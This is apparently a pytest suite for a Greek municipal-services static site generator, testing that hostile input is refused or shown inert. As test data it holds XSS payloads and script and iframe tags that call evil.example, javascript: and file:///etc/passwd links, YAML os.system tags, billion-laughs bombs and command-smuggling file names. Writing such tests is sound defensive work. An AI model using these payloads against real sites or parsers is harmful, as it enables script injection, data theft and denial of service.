"""Whatever anybody sends is refused or shown letter by letter, soon and in little memory."""

from __future__ import annotations

import codecs
import json
import os
import re
import shutil
import time
from collections.abc import Callable
from pathlib import Path

import markdown
import pytest
from playwright.sync_api import Browser, Dialog, Page, Request

import hostile
import towns
from browser import Serve
from html_page import parsed
from kentro import catalogue, fields, harmless, schema
from kentro.fields import Reader
from kentro.hand_written import MARKER
from kentro.hand_written import check as check_pages
from kentro.load import load
from kentro.positions import Scalar, read
from kentro.problems import Mark, Problems
from kentro.tree import hand_written

# Addresses ----------------------------------------------------------------------------------------------------------

BAD_LINKS = [
    "javascript:alert(1)", "JavaScript:alert(1)", "javascript&colon;x:y", " javascript:alert(1)", "\tjavascript:x",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:x", "\x01javascript:x", "java\x00script:x",
    "javascript\t:x", "\u200bjavascript:x", "java\u00adscript:x", "javascript://a.gr/%0aalert(1)", "vbscript:x",
    "data:text/html,x", "DATA:text/html;base64,PHg+", "data:image/svg+xml,<svg onload=x>", "blob:https://a.gr/x",
    "file:///etc/passwd", "ftp://a.gr/", "view-source:https://a.gr", "about:blank", "chrome://settings", "intent://x",
    "sms:1", "whatsapp://send", "ws://a.gr", "jar:http://a.gr!/", "filesystem:http://a.gr/", "feed:https://a.gr",
    "//evil.example", "//evil.example/x", "\\\\evil.example", "/\\evil.example", "https:\\\\evil.example",
    "https:/\\evil.example", "https://a.gr\\@evil.example", "https://www.gov.gr@evil.example/",
    "https://user:pass@evil.example/", "https:evil.example", "https:///evil.example", "http://", "https://[x/",
    "https://a.gr/\u202egpj.exe", "https://a.gr/ ", "https://a.gr/\n", "https://a.gr\t.evil.example/", "x:y", ":",
]  # fmt: skip
GOOD_LINKS = [
    "https://www.gov.gr/", "http://a.gr/x?y=1#z", "HTTPS://A.GR/", "mailto:a@b.gr", "mailto:a@b.gr?subject=α: β",
    "tel:+302105065885", "tel:112", "geo:37.98,23.72", "../a/", "a/", "./", "", "#x", "?q=a:b", "/kentro/", "a/b:c",
    "https://δήμος.gr/", "https://a.gr:8443/x", "https://a.gr/@x",
]  # fmt: skip


@pytest.mark.parametrize("href", BAD_LINKS)
def test_an_address_that_is_no_plain_link_is_refused_wherever_it_stands(href: str) -> None:
    assert not harmless.is_link(href)
    problems = Problems()
    fields.URL.read(Scalar(href, False, Mark("x")), Reader(problems, [], ("top",)))
    assert problems.found or href.strip() != href  # the spaces around a value are no part of it
    said, refused = harmless.cleaned(f'<a href="{href.replace("&", "&amp;")}">x</a>')
    assert refused
    assert "href" not in said


@pytest.mark.parametrize("href", GOOD_LINKS)
def test_a_plain_link_is_a_link(href: str) -> None:
    assert harmless.is_link(href)
    assert harmless.cleaned(f'<a href="{href}">x</a>') == (f'<a href="{href}">x</a>', [])


LOOKS = ["https://www.gоv.gr/", "https://www.gov.gr@a.gr/", "https://gοv.gr/", "https://a.gr\u3164/", "https://gov/"]


@pytest.mark.parametrize("url", LOOKS)
def test_an_address_that_looks_like_another_is_refused(url: str) -> None:
    problems = Problems()
    fields.URL.read(Scalar(url, False, Mark("x")), Reader(problems, [], ("top",)))
    assert problems.found


# Markdown -----------------------------------------------------------------------------------------------------------

PAGES = [
    *(text for text in hostile.SHOWN if "<" in text and not text.startswith(("<%", "<javascript"))),
    "[x](javascript:x)", "[x](<java\tscript:x>)", "[x][a]\n\n[a]: javascript:x", "![x](https://evil.example/a.png)",
    "![x](//evil.example/a.png)", "![x](data:image/svg+xml,x)", "[x](//evil.example)", "[x](\\\\evil.example)",
    "[x](vbscript:x)", "[x](data:text/html,x)", "[x](&#106;avascript:x)", "[x](https://a.gr@evil.example)",
    "<p onclick=x>", "<p data-fact=phone>", "<p style=x>", "<div hidden>", "<img src=x onerror=y alt=''>",
    "<a href=x ping=https://evil.example>x</a>", "<a href=x target=_top>x</a>", "<input>", "<button>", "<select>",
    "<textarea>", "<dialog open>", "<slot>", "<frameset>", "<audio src=x>", "<canvas>", "<portal src=x>",
    "<custom-element>", "<o:p>", "<td contenteditable>", "<p is=x>",
]  # fmt: skip
ALLOWED = (
    "# Τίτλος\n\nΜια **λέξη**, [μια σελίδα](../centres/), <b>HTML</b> & a < b.<br>\n\n| α | β |\n| --: | --- |\n"
    "| 1 | 2 |\n\n```py\nx = '<script>'\n```\n\n<!-- σημείωση -->\n\n1. ένα\n"
)


def made(text: str) -> str:
    return str(markdown.markdown(text, extensions=["toc", "tables", "fenced_code"]))


@pytest.mark.parametrize("text", PAGES)
def test_a_page_by_hand_becomes_nothing_but_plain_html(text: str) -> None:
    said, refused = harmless.cleaned(made(text))
    shown = parsed(said)
    for element in shown.all():
        assert element.tag in harmless._ELEMENTS
        assert not [name for name in element.attributes if name.startswith(("on", "style", "data-"))]
        assert harmless.is_link(element.attributes.get("href", "")), element.attributes
        assert "evil.example" not in element.attributes.get("src", "")
    assert refused or "hit" in shown.text or not shown.text, said


def test_what_markdown_makes_of_itself_stays() -> None:
    said, refused = harmless.cleaned(made(ALLOWED))
    assert refused == []
    assert said == made(ALLOWED).replace("<!-- σημείωση -->", "").replace(' style="text-align: right;"', "").replace(
        "&quot;", '"'
    )


def test_elements_that_do_not_close_are_closed() -> None:
    assert harmless.cleaned("</main></div><p>a<b>c</p></body>")[0] == "<p>a<b>c</b></p>"


# Files --------------------------------------------------------------------------------------------------------------

BAD_FILES = [
    "x.html", "x.htm", "x.xhtml", "x.svg", "x.js", "x.mjs", "x.css", "x.json", "x.xml", "x.webmanifest", "x.swf",
    "x.php", "x.md.html", "x.pdf.exe", "CNAME", "_headers", "_redirects", "sw", "x.wasm", "x.map",
    "a b.md", "a<b>.md", "a'b.md", 'a"b.md', "a&b.md", "a?b.md", "a#b.md", "a%2fb.md", "a\\b.md", "a:b.md", "a|b.md",
    "a\nb.md", "α\u202eb.md", "a\u200bb.md", "κέντρo.md", "-x.md", "_x.md", "a;b.md", "a$(x).md", "a`x`.md", "a*.md",
    f"{'x' * 120}.md", "a..md", "x\u3164.md", "x.PNG.md", "folder.d/x.md", "a b/x.md", "javascript:x.md",
]  # fmt: skip


@pytest.mark.parametrize("name", BAD_FILES)
def test_a_file_that_a_browser_would_run_or_whose_name_deceives_is_refused(tmp_path: Path, name: str) -> None:
    path = tmp_path / "docs/el" / name
    path.parent.mkdir(parents=True)
    path.write_text("x", encoding="utf-8")
    assert {problem.code for problem in harmless.check(tmp_path)} & {"file-kind", "file-name"}


GOOD_FILES = [
    "about.md",
    "σχετικά.md",
    "a-b_c/d.md",
    "x.pdf",
    "x.PNG",
    "φωτογραφία.jpg",
    ".gitkeep",
    "دليل.md",
    "2026.md",
]


@pytest.mark.parametrize("name", GOOD_FILES)
def test_pages_pictures_and_papers_are_published(tmp_path: Path, name: str) -> None:
    path = tmp_path / "docs/el" / name
    path.parent.mkdir(parents=True)
    path.write_text("x", encoding="utf-8")
    assert list(harmless.check(tmp_path)) == []


LINKED = ["data", "docs", "local", "data/centres.yaml", "docs/el/x.md", "docs/el/x.png", "local/templates", "docs/en"]


@pytest.mark.parametrize("name", LINKED)
def test_a_link_to_another_file_is_refused_and_nothing_is_read(town: Path, tmp_path: Path, name: str) -> None:
    path = town / name
    if path.is_dir():
        path.rename(tmp_path / "elsewhere")
    path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.symlink("/dev/zero" if path.suffix else tmp_path / "elsewhere", path)
    ran = towns.manage(town, "--lang", "en", "check")
    assert ran.returncode == 1
    assert f"{name}:1:1: The file is a link to another one (a symbolic link)." in ran.stdout
    assert len(ran.stdout.splitlines()) == 3


TAKEN = [
    "centres.md",
    "CENTRES.md",
    "centres/README.md",
    "en.md",
    "en/about.md",
    "api/v1.md",
    "assets/x.md",
    "README.md",
]


@pytest.mark.parametrize("name", TAKEN)
def test_a_page_by_hand_takes_nobody_s_address(tmp_path: Path, name: str) -> None:
    ours = {
        f"docs/{tag}/{page}": f"---\n{MARKER}\n---\n"
        for tag in ("el", "en")
        for page in ("index.md", "centres/index.md")
    }
    path = tmp_path / "docs/el" / name
    path.parent.mkdir(parents=True)
    path.write_text("# x", encoding="utf-8")
    assert [problem.code for problem in hand_written(ours, tmp_path)] == ["hand-written"]


def test_the_name_of_a_benefit_s_file_is_an_id(town: Path) -> None:
    folder = town / "data/national/benefits"
    (folder / "birth-benefit.yaml").rename(folder / "Moving <x>.yaml")
    assert ("bad-id", "data/national/benefits/Moving <x>.yaml") in {(p.code, p.mark.file) for p in load(town).problems}


# The first lines of a page ------------------------------------------------------------------------------------------

FRONTS = {
    "a template": "---\ntemplate: 404.html\n---\n",
    "a body that is taken as it is": "---\nkind: centre\n---\n<script>x</script>\n",
    "scripts": "---\nscripts: [../../x]\n---\n",
    "crumbs": "---\ncrumbs: [[x, 'javascript:x', el]]\n---\n",
    "data": "---\ndata: ../../x\n---\n",
    "an alias": "---\ntitle: &a x\n---\n",
    "a bomb": "---\na: &a [x, x]\nb: &b [*a, *a]\n---\n",
    "a tag": "---\ntitle: !!python/object/apply:os.system [x]\n---\n",
    "a list for a title": "---\ntitle: [x]\n---\n",
    "a list": "---\n- x\n---\n",
    "a text": "---\nx\n---\n",
    "a hidden sign": "---\ntitle: α\u202eβ\n---\n",
    "a hidden sign in the text": "# α\u200bβ\n",
    "letters of another alphabet": "# Κέντρo\n",
    "another encoding": "# Κέντρο".encode("iso8859-7"),
    "too many brackets": "[" * 20_000,
    "too many other brackets": "<http://" * 5_000,
    "too much": "x " * 60_000,
}


@pytest.mark.parametrize("text", FRONTS.values(), ids=FRONTS)
def test_the_first_lines_of_a_page_say_its_title_and_no_more(tmp_path: Path, text: str | bytes) -> None:
    path = tmp_path / "docs/el/x.md"
    path.parent.mkdir(parents=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    assert hostile.limited(lambda: list(check_pages(tmp_path, ("el",)))) == "done"
    assert [problem for problem in check_pages(tmp_path, ("el",)) if problem.severity == "error"]


# Catalogues ---------------------------------------------------------------------------------------------------------

HEAD = 'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset={}\\n"\n"Plural-Forms: nplurals={}; plural={};\\n"\n\n'
ONE = 'msgctxt "ui.x"\nmsgid "α"\nmsgstr "{}"\n'
MANY = 'msgctxt "ui.x"\nmsgid "α"\nmsgid_plural "β"\nmsgstr[{}] "x"\n'
CATALOGUES: dict[str, str] = {
    "room for a thousand million forms": HEAD.format("utf-8", 10**9, "0") + MANY.format(0),
    "room for seven forms": HEAD.format("utf-8", 7, "0") + MANY.format(0),
    "another codec": HEAD.format("rot13", 2, "0") + ONE.format("x"),
    "a codec that unpacks": HEAD.format("zip", 2, "0") + ONE.format("x"),
    "a form too many": HEAD.format("utf-8", 2, "0") + MANY.format(99_999_999),
    "a form that is none": HEAD.format("utf-8", 2, "0") + MANY.format("x"),
    "too many messages": ONE.format("x") * 60_000,
    "too many bytes": "# x\n" * 1_300_000,
    "no catalogue": "<script>x</script>",
    "an end too early": 'msgid "x',
    **{f"a text: {text!r}": HEAD.format("utf-8", 2, "0") + ONE.format(text) for text in hostile.REFUSED},
}


@pytest.mark.parametrize("text", CATALOGUES.values(), ids=CATALOGUES)
def test_a_catalogue_that_is_none_or_hides_something_is_refused_soon(tmp_path: Path, text: str) -> None:
    path = tmp_path / catalogue.OWN / "en.po"
    path.parent.mkdir(parents=True)
    path.write_text(text, encoding="utf-8", newline="")
    assert hostile.limited(lambda: catalogue.read_catalogues(tmp_path, ("en",))) == "done"
    assert catalogue.read_catalogues(tmp_path, ("en",))[1]


# YAML ---------------------------------------------------------------------------------------------------------------

LAUGHS = "a: &a [x, x, x]\n" + "".join(
    f"{b}: &{b} [*{a}, *{a}, *{a}]\n" for a, b in zip("abcdefghi", "bcdefghij", strict=True)
)
HEAVY: dict[str, bytes] = {
    "a thousand million laughs": LAUGHS.encode(),
    "more values than a country": b"[" + b"a," * 2_400_000 + b"]",
    "as many lines": b"- a\n" * 1_200_000,
    "as many keys": "".join(f"k{i}: v\n" for i in range(400_000)).encode(),
    "a text without end": b"a: " + b"x" * 4_900_000,
    "a text in quotes without end": b'a: "' + b"\\u0041" * 800_000 + b'"',
    "colons": b"a" + b":" * 4_000_000,
    "questions": b"? " * 2_000_000,
    "exclamations": b"!" * 4_000_000,
    "brackets": b"[" * 4_000_000,
    "braces": b"{" * 4_000_000,
    "dashes": b"- " * 2_000_000,
    "percents": b"%" * 4_000_000,
    "a directive": b"%TAG ! tag:x,2000:\n---\n!x y\n",
    "quotes": b"'" * 4_999_999,
    "ampersands": b"&" * 4_000_000,
    "a tag of Python": b"a: !!python/object/new:os.system [x]",
    "a merge": b"a: &a {b: c}\nd:\n  <<: *a\n",
    "bytes of nothing": bytes(4_000_000),
    "another encoding": "a: α".encode("utf-16"),
    "a sequence that is no letter": b"a: \xed\xa0\x80",
    "too many bytes": b"#" * 5_000_001,
    "a mark in the middle": b"a: \x07",
    "CR alone": b"a: x\r\x00",
}


@pytest.mark.parametrize("source", HEAVY.values(), ids=HEAVY)
def test_a_file_that_would_take_time_or_memory_is_refused_soon(source: bytes) -> None:
    assert hostile.limited(lambda: read(source, "x", Problems())) == "done"
    problems = Problems()
    node = read(source, "x", problems)
    assert node is None
    assert problems.found


BIG = {
    "unknown fields": lambda text: text + "".join(f"field{i}: x\n" for i in range(3_000)),
    "a long id": lambda text: text.replace("neochora-main:", f"{'x' * 4_000}:", 1),
    "a long phone": lambda text: re.sub(r'number: "?[0-9 ]+"?', f'number: "{"2310555001 " * 400}"', text, count=1),
    "long hours": lambda text: text.replace("regular: ", f"regular: {'Mo-Fr 08:00-15:00; ' * 200}", 1),
}


@pytest.mark.parametrize("change", BIG.values(), ids=BIG)
def test_a_file_of_fields_that_is_full_of_slips_is_refused_soon(town: Path, change: Callable[[str], str]) -> None:
    path = town / "data/centres.yaml"
    began = time.process_time()
    load(town)
    normal = time.process_time() - began
    path.write_text(change(path.read_text(encoding="utf-8")), encoding="utf-8")
    began = time.process_time()
    found = load(town).problems
    assert time.process_time() - began < normal + 2
    assert [problem for problem in found if problem.severity == "error"]


def test_there_are_enough_of_them() -> None:
    inputs = (BAD_LINKS, LOOKS, PAGES, BAD_FILES, LINKED, TAKEN, FRONTS, CATALOGUES, HEAVY, BIG)
    assert sum(map(len, inputs)) >= 150
    assert len(hostile.SHOWN) >= 60


# Every text of a site -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", hostile.REFUSED)
def test_a_text_that_hides_something_is_refused_in_every_kind_of_text(text: str) -> None:
    for kind in (fields.TEXT, fields.OFFICIAL, *hostile.TEXTS):
        problems = Problems()
        kind.read(Scalar(f"Αθήνα {text}", False, Mark("x")), Reader(problems, [], ("top",)))
        assert problems.found, kind


@pytest.fixture(scope="session")
def filled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The built site of a town in which every text, in Greek and in English, holds every payload.

    It is too heavy to be published: what was built stands beside `site/`, where the audit looked at it.
    """
    town = towns.copy("neochora", tmp_path_factory.mktemp("filled") / "town")
    towns.edit(
        town,
        "data/centres.yaml",
        (
            "    verified: { on: 2026-10-05, how: phone,",
            "    also_called: { el: [το κέντρο] }\n    verified: { by: Δήμος, on: 2026-10-05, how: phone,",
        ),
        ("  neochora-2024:\n", "  neochora-2024:\n    title: Ένας χρόνος\n"),
        (
            '    hours: { regular: "Tu,Th 10:00-13:00" }\n',
            "    visits: { a: { place: { place: Πλατεία }, dates: [ 2026-11-10 ], note: Έξω. } }\n",
        ),
    )
    towns.edit(town, "data/site.yaml", ("accent: ", "logo: { file: local/logo.svg, alt: Σήμα }\naccent: "))
    (town / "local").mkdir(exist_ok=True)
    shutil.copy(towns.HERE / "forks/thalassa/logo.svg", town / "local/logo.svg")
    with (town / "data/services.yaml").open("a", encoding="utf-8") as services:
        services.write("local: { birth-benefit: { note: Ρωτήστε μας., source: newspaper } }\n")
    found = hostile.fill(town, " ".join(hostile.SHOWN))
    wanted = {field for _, cls in schema.FILES.values() for field in hostile.declared(cls)}
    assert wanted == found
    (town / "data/translations/en.po").unlink(missing_ok=True)
    towns.translate(town)
    ran = towns.manage(town, "--lang", "en", "build")
    assert ran.returncode == 1, ran.stdout + ran.stderr
    assert {line.split(": ", 1)[1][:12] for line in ran.stdout.splitlines() if ".html:" in line} <= {"The page is "}, (
        ran.stdout
    )
    return town / ".build" / "site"


def watched(page: Page, home: str) -> list[str]:
    """What a page does that it should not do, as it happens."""
    done: list[str] = []

    def said(dialog: Dialog) -> None:
        done.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def asked(request: Request) -> None:
        if not request.url.startswith((home, "data:")):
            done.append(request.url)

    def failed(request: Request) -> None:
        if request.failure == "csp" and request.url in done:
            done.remove(request.url)

    page.on("dialog", said)
    page.on("request", asked)
    page.on("requestfailed", failed)
    return done


@pytest.mark.everything
def test_every_text_is_shown_and_nothing_of_it_runs(filled: Path, serve: Serve, chromium: Browser) -> None:
    home = serve(filled)
    context = chromium.new_context(bypass_csp=True, service_workers="block")
    page = context.new_page()
    done = watched(page, home)
    files = [path.relative_to(filled).as_posix() for path in sorted(filled.rglob("*.html"))]
    kinds = {file.split("/")[-3] if file.count("/") > 1 else file: file for file in files}
    for file in [*kinds.values(), "search/index.html?q=script", "en/search/index.html?q=script"]:
        page.goto(home + file)
        assert page.evaluate("[typeof top.hit, document.querySelectorAll('[onerror],[onload],[onfocus]').length]") == [
            "undefined",
            0,
        ], file
        assert page.evaluate("document.querySelectorAll('iframe,object,embed,base,main style,main script').length") == 0
    assert done == []
    page.goto(f"{home}centres/neochora-main/")
    text = page.inner_text("main")
    assert [payload for payload in hostile.SHOWN if payload not in text] == []
    context.close()


@pytest.mark.everything
def test_no_file_was_written_outside_and_every_export_can_be_read(filled: Path) -> None:
    assert not list(filled.parent.parent.rglob("hit"))
    for path in filled.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    for path in filled.rglob("*.ics"):
        assert path.read_text(encoding="utf-8").count("\nBEGIN:VEVENT") == path.read_text(encoding="utf-8").count(
            "\nUID:"
        )


# The policy ---------------------------------------------------------------------------------------------------------

SPLICED = [
    "<script>top.hit=self</script>",
    "<img src=x onerror=top.hit=self>",
    "<svg onload=top.hit=self></svg>",
    "<script src=https://evil.example/a.js></script>",
    "<script src=data:text/javascript,top.hit=self></script>",
    "<script type=module>top.hit=self</script>",
    "<script>import('https://evil.example/a.js')</script>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>top.hit=self</script>'></iframe>",
    "<iframe src=javascript:top.hit=self></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<img src=https://evil.example/a.png>",
    "<img srcset=https://evil.example/a.png>",
    "<video src=https://evil.example/a poster=https://evil.example/b></video>",
    "<audio src=https://evil.example/a></audio>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=preload as=script href=https://evil.example/a.js>",
    "<link rel=icon href=https://evil.example/a.png>",
    "<link rel=manifest href=https://evil.example/a>",
    "<style>body{background:url(https://evil.example/a)}</style>",
    "<p style='background:url(https://evil.example/a)'>x</p>",
    "<input type=image src=https://evil.example/a>",
    "<base href=https://evil.example/>",
    "<form id=evil action=https://evil.example/><input name=x></form>",
    "<a id=js href=javascript:top.hit=self>x</a>",
    "<details open ontoggle=top.hit=self>x</details>",
]


@pytest.mark.parametrize("path", ["index.html", "en/centres/neochora-main/index.html", "404.html", "search/index.html"])
def test_what_is_spliced_into_a_built_page_is_stopped_by_its_policy(
    neochora: Path, serve: Serve, chromium: Browser, tmp_path: Path, path: str
) -> None:
    text = (neochora / path).read_text(encoding="utf-8")
    (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / path).write_text(text.replace("</main>", f"{''.join(SPLICED)}</main>"), encoding="utf-8")
    home = serve(tmp_path)
    context = chromium.new_context(service_workers="block")
    page = context.new_page()
    done = watched(page, home)
    page.goto(home + path)
    page.wait_for_timeout(300)
    page.evaluate("document.getElementById('js').click()")
    page.evaluate("document.getElementById('evil').submit()")
    page.wait_for_timeout(300)
    assert page.evaluate("typeof top.hit") == "undefined"
    assert page.evaluate("document.baseURI") == home + path
    assert page.url == home + path
    assert done == []
    context.close()


# What is right ------------------------------------------------------------------------------------------------------

VARIANTS: dict[str, Callable[[bytes], bytes]] = {
    "CRLF": lambda data: data.replace(b"\n", b"\r\n"),
    "a byte-order mark": lambda data: codecs.BOM_UTF8 + data,
    "both": lambda data: codecs.BOM_UTF8 + data.replace(b"\n", b"\r\n"),
    "no last line end": lambda data: data.rstrip(b"\n"),
    "empty lines at the end": lambda data: data + b"\n\n\n",
    "a first line of dashes": lambda data: b"---\n" + data,
    "a last line of dots": lambda data: data + b"...\n",
    "a comment first": lambda data: "# σχόλιο: «τιμή»\n".encode() + data,
    "a comment last": lambda data: data + "# σχόλιο".encode(),
    "spaces at the ends of lines": lambda data: b"\n".join(
        line + b"  " if b":" in line and not line.rstrip().endswith((b">", b"|", b">-", b"|-")) else line
        for line in data.split(b"\n")
    ),
    "a space more after colons": lambda data: re.sub(rb"(?m)^( *[a-z_]+:) (?=[^>|])", rb"\1  ", data),
    "twice the indentation": lambda data: b"\n".join(
        line[: len(line) - len(line.lstrip(b" "))] + line for line in data.split(b"\n")
    ),
    "keys in quotes": lambda data: re.sub(rb"(?m)^( *)([a-z_]+):(?= |$)", rb'\1"\2":', data),
    "keys in single quotes": lambda data: re.sub(rb"(?m)^( *)([a-z_]+):(?= |$)", rb"\1'\2':", data),
    "a comment after each record": lambda data: re.sub(rb"(?m)^( *[a-z-]+:)$", rb"\1 # x", data),
    "a comment before each record": lambda data: re.sub(rb"(?m)^( *)([a-z-]+:)$", rb"\1# x\n\1\2", data),
    "an empty line before each record": lambda data: re.sub(rb"(?m)^( *[a-z-]+:)$", rb"\n\1", data),
}
FILES = ("data/centres.yaml", "data/services.yaml", "data/site.yaml", "mkdocs.yml", "data/national/sources.yaml",
    "data/national/benefits.yaml", "data/national/benefits/birth-benefit.yaml", "data/national/situations.yaml",
    "data/national/glossary.yaml", "data/national/holidays.yaml", "data/national/help.yaml")  # fmt: skip


def varied(town: Path, files: tuple[str, ...], change: Callable[[bytes], bytes]) -> bool:
    """Whether the files say the same when they are written in another way; they are as before afterwards."""
    before = {file: (town / file).read_bytes() for file in files}
    for file, data in before.items():
        (town / file).write_bytes(change(data))
    after = load(town)
    for file, data in before.items():
        (town / file).write_bytes(data)
    assert not [problem for problem in after.problems if problem.severity == "error"]
    return after.site == load(town).site


@pytest.mark.parametrize("change", VARIANTS.values(), ids=VARIANTS)
def test_files_that_are_written_in_another_way_give_the_same_site(town: Path, change: Callable[[bytes], bytes]) -> None:
    assert varied(town, FILES, change)


@pytest.mark.everything
@pytest.mark.parametrize("change", VARIANTS.values(), ids=VARIANTS)
def test_each_file_may_be_written_in_each_way(town: Path, change: Callable[[bytes], bytes]) -> None:
    assert len(VARIANTS) * (len(FILES) + 1) >= 200
    assert all(varied(town, (file,), change) for file in FILES)
